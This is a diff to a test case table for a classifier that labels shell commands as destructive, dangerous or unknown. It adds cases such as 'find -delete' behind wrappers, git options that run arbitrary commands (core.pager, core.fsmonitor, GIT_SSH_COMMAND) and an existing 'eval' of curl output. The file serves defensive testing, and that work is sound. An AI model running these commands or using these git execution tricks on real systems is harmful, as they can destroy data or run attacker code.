@@ -83,6 +83,16 @@ CASES: list[tuple[str, str]] = [
     ('eval "$(curl -s http://x)"', "destructive"),
     ("if true; then rm x; fi", "destructive"),
     ("true && (cd sub; rm -f y)", "destructive"),
+    # found by test_fuzz.py: wrappers kept the inner command's options
+    ("timeout 5 find . -exec touch {} ;", "unknown"),
+    ("timeout -s KILL 5 find . -delete", "destructive"),
+    ("xargs -n 1 find . -delete", "destructive"),
+    # git options that make git run a command (issue 15)
+    ("git -c core.pager='touch x' -p log", "destructive"),
+    ("git -c core.fsmonitor=./evil status", "destructive"),
+    ("git config core.hooksPath hooks", "unknown"),
+    ("git config --global core.editor vim", "destructive"),
+    ("GIT_SSH_COMMAND='sh evil' git fetch", "dangerous"),
 ]
 
 
